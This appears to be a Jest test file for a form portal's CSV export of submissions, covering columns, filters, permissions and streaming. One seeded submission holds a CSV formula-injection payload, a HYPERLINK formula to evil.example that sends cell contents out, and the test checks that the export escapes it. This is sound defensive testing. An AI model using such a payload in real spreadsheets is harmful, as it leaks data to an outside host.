import { parse } from 'csv-parse/sync';
import { expect, test } from '@jest/globals';
import { sql } from '#kernel/sql.ts';
import { testApp, wholeSchema } from '#test/support/app.ts';
import type { Client } from '#test/support/client.ts';
import { changeForm, nameBlock, seedForm } from '#test/support/portal/forms.ts';
import { seedUser } from '#test/support/seed.ts';
import { seedSubmissions } from '#test/support/portal/submissions.ts';

const app = await testApp({ WORKER: 'off' }, wholeSchema);
const {
  admin,
  unauthenticated,
  services: { db },
} = app;
const moderator = await seedUser(app, 'moderator', { permissions: ['moderate_form'] });
const author = await seedUser(app, 'author', { permissions: ['edit_form'] });
const pathOf = async (client: Client, slug: string): Promise<string> =>
  (await client.data('query ($s: ID!) { submissionTable(formSlug: $s) { downloadPath } }', { s: slug })).submissionTable
    .downloadPath;
const download = (client: Client, path: string) => client.request('GET', path);

const blocks = [
  nameBlock,
  { fieldId: 'who', type: 'contact', label: 'Who', contact: { subFields: [{ name: 'email' }, { name: 'phone' }] } },
  { fieldId: 'place', type: 'location_picker', label: 'Where' },
  { fieldId: 'height', type: 'number', label: 'Height' },
  { fieldId: 'kinds', type: 'keywords', label: 'Kinds' },
  { fieldId: 'photo', type: 'image', label: 'Photo' },
  { fieldId: 'any', type: 'autofill', label: 'Any' },
];
await seedForm(admin, 'trees', { sections: [{ title: '', blocks: [{ ...nameBlock, fieldId: 'before' }] }] });
await changeForm(admin, 'updateForm', { slug: 'trees', sections: [{ title: '', blocks }] });
await changeForm(admin, 'publishForm', { slug: 'trees' });
const [old, fresh, hostile] = await seedSubmissions(app, 'trees', [
  { answers: { before: 'long ago' }, status: 'rejected' },
  {
    version: 2,
    submittedBy: 'author',
    answers: {
      name: 'Öak, "old"',
      who: { email: 'ada@example.org', phone: '+33 1 23 45 67 89' },
      place: { lat: -33.5, lon: 7, street: 'A' },
      height: -1.5,
      kinds: ['oak', 'elm'],
      photo: { id: 'x', filename: 'oak.png' },
      any: { a: [1] },
    },
  },
  {
    version: 2,
    status: 'pending',
    answers: { name: '=HYPERLINK("http://evil.example/?"&A1)', kinds: ['@b'], any: '-2' },
    revision: { name: 'hidden' },
  },
]);
const header = [
  'submission.uid',
  'submission.status',
  'submission.created_at',
  'submission.submitted_by',
  'name',
  'who.email',
  'who.phone',
  'place.lat',
  'place.lon',
  'place.others',
  'height',
  'kinds',
  'photo',
  'any',
  'before',
];
const rows = [
  [
    hostile,
    'pending',
    '2026-01-01T00:00:02Z',
    '',
    '\'=HYPERLINK("http://evil.example/?"&A1)',
    '',
    '',
    '',
    '',
    '',
    '',
    "'@b",
    '',
    "'-2",
    '',
  ],
  [
    fresh,
    'approved',
    '2026-01-01T00:00:01Z',
    'author',
    'Öak, "old"',
    'ada@example.org',
    "'+33 1 23 45 67 89",
    '-33.5',
    '7',
    '{"street":"A"}',
    '-1.5',
    'oak; elm',
    'oak.png',
    '{"a":[1]}',
    '',
  ],
  [old, 'rejected', '2026-01-01T00:00:00Z', '', '', '', '', '', '', '', '', '', '', '', 'long ago'],
];

test('a table of submissions has the newest first, and a column for each part of an answer, also of older versions', async () => {
  const { status, body, headers } = await download(moderator, await pathOf(moderator, 'trees'));
  expect(status).toBe(200);
  expect(headers).toMatchObject({
    'content-type': 'text/csv; charset=utf-8; header=present',
    'content-disposition': 'attachment; filename="trees.csv"; filename*=UTF-8\'\'trees.csv',
    'x-content-type-options': 'nosniff',
    'cache-control': 'private, no-store',
  });
  expect(parse(body)).toEqual([header, ...rows]);
});

test('a table of submissions has the filters of the list', async () => {
  const read = async (query: string) =>
    parse((await download(moderator, `/catalog/forms/trees/submissions/download/?${query}`)).body).slice(1);
  expect(await read('status=pending')).toEqual([rows[0]]);
  expect(await read('has_revision=false&created_after=2026-01-01T00:00:01Z')).toEqual([rows[1]]);
  expect(await read('submitted_by=author&search=OLD&created_before=2027-01-01T00:00:00Z')).toEqual([rows[1]]);
  expect(await read('search=hidden')).toEqual([]);
  const refused = await download(moderator, '/catalog/forms/trees/submissions/download/?status=any&created_after=x');
  const twice = await download(moderator, '/catalog/forms/trees/submissions/download/?status=pending&status=approved');
  expect(twice.body.detail.status).toEqual(['Choose one of pending, approved, rejected.']);
  expect(refused.body.detail.created_after).toEqual([expect.stringContaining('2026-01-15T14:30:00Z')]);
  expect([refused.status, Object.keys(refused.body.errors ?? refused.body)]).toMatchObject([400, expect.any(Array)]);
});

test('a table of submissions is for moderators', async () => {
  const path = '/catalog/forms/trees/submissions/download/';
  expect((await download(author, path)).status).toBe(403);
  expect((await download(unauthenticated, path)).status).toBe(401);
  expect((await download(moderator, '/catalog/forms/none/submissions/download/')).status).toBe(404);
  expect(await moderator.request('HEAD', path)).toMatchObject({ status: 200, body: null });
});

test('ten thousand submissions are streamed', async () => {
  await seedForm(admin, 'many');
  await db.rows(sql`insert into submission (uid, form_slug, form_version, answers, status, is_anonymous, created_at, updated_at)
    select gen_random_uuid()::text, 'many', 1, jsonb_build_object('name', n || repeat('x', 4000)), 'approved', true, now() - n * interval '1 second', now() from generate_series(1, 10000) n`);
  const address = await app.http.listen({ host: '127.0.0.1', port: 0 });
  const response = await fetch(`${address}${await pathOf(admin, 'many')}`, {
    headers: { authorization: 'Apikey test-administrator-key' },
  });
  expect(response.headers.get('content-length')).toBeNull();
  const chunks = response.body?.pipeThrough(new TextDecoderStream()).getReader();
  const beginning = (await chunks?.read())?.value ?? '';
  expect(beginning.length).toBeLessThan(1_000_000);
  // what is deleted now has not been read before
  await db.rows(sql`delete from submission where form_slug = 'many' and answers ->> 'name' like '10000x%'`);
  let text = beginning;
  for (let chunk = await chunks?.read(); chunk && !chunk.done; chunk = await chunks?.read()) text += chunk.value;
  const lines = text.split('\r\n');
  expect(lines).toHaveLength(1 + 9999 + 1);
  expect(lines.slice(1, -1).every((line, index) => line.includes(`,${index + 1}xxx`))).toBe(true);
});

test('submissions of the maximum size are streamed in smaller pages', async () => {
  const blocks = Array.from({ length: 100 }, (_, index) => ({
    fieldId: `more${index}`,
    type: 'autofill',
    label: 'More',
  }));
  await seedForm(admin, 'heavy', { sections: [{ title: '', blocks }] });
  await db.rows(sql`insert into submission (uid, form_slug, form_version, answers, status, is_anonymous, created_at, updated_at)
    select gen_random_uuid()::text, 'heavy', 1, (select jsonb_object_agg('more' || b, repeat(chr(65 + n % 20), 9990)) from generate_series(0, 99) b), 'approved', true, now() - n * interval '1 second', now()
    from generate_series(1, 60) n`);
  const { status, body } = await download(admin, await pathOf(admin, 'heavy'));
  expect(status).toBe(200);
  expect(body.split('\r\n')).toHaveLength(1 + 60 + 1);
});
